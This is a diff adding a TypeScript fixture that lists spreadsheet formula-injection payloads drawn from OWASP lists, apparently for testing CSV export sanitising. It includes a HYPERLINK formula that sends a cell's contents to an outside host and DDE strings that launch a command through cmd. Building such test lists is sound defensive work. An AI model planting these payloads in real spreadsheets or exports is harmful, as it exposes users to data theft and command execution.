@@ -1,0 +1,15 @@
+/** What spreadsheets have been made to run by, from the lists of OWASP and of those who report it. */
+export const formulas = [
+  "=1+1",
+  "+1+1",
+  "-1+1",
+  "@SUM(1;1)",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  " =1+1",
+  '=HYPERLINK("http://example.org?x="&A1;"here")',
+  "=cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "＝1+1",
+];
